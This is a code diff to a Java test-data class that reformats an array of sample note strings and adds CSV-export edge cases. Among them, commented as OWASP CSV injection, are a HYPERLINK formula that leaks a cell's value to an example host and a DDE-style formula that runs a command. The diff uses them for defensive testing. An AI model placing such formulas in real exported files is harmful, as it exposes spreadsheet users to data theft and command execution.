@@ -165,10 +165,30 @@ final class ValuePools {
   };
 
   static final String[] SHORT_TEXT = {
-    "Met at the conference", "Prefers email, not phone", "Said \"maybe next quarter\"", "",
-        "Follow up: pricing, terms",
-    "日本語のメモ", "Σημείωση στα ελληνικά", "Emoji test 🎉🚀", "Tab\tseparated", "Semicolon; inside",
-    "Back\\slash", "50% discount?", "<b>not html</b>", "Ends with space ", " starts with space"
+    "Met at the conference",
+    "Prefers email, not phone",
+    "Said \"maybe next quarter\"",
+    "",
+    "Follow up: pricing, terms",
+    "日本語のメモ",
+    "Σημείωση στα ελληνικά",
+    "Emoji test 🎉🚀",
+    "Tab\tseparated",
+    "Semicolon; inside",
+    "Back\\slash",
+    "50% discount?",
+    "<b>not html</b>",
+    "Ends with space ",
+    " starts with space",
+    // what a spreadsheet would run as a formula (OWASP's CSV injection), and the quote that marks
+    // text
+    "=HYPERLINK(\"https://example.com/?leak=\"&A1,\"Click\")",
+    "+1 555 0100, call back",
+    "-2+3 people interested",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\tindented note",
+    "\rcarriage return first",
+    "'quoted on purpose"
   };
 
   static final String[] SUBJECTS = {
